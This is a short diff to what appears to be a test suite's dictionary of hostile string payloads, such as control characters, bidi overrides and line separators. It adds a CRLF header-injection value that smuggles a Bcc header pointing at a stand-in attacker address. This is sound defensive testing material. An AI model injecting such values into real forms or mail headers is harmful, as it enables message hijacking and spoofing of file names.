@@ -31,6 +31,7 @@ PAYLOADS: dict[str, str] = {
     "c1-dcs": "\x90q\x9c",
     "c0": "a\x00b\x01c\x05d\x07e\x08f\x0eg\x0fh\x7fi",
     "carriage-return": "visible\rhidden",
+    "header-lines": "hi\r\nBcc: thief@evil.test\r\n\r\nbody",
     "line-separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
     "bidi-override": "invoice\u202efdp.exe",
     "bidi-isolate": "\u2066left\u2067right\u2069",
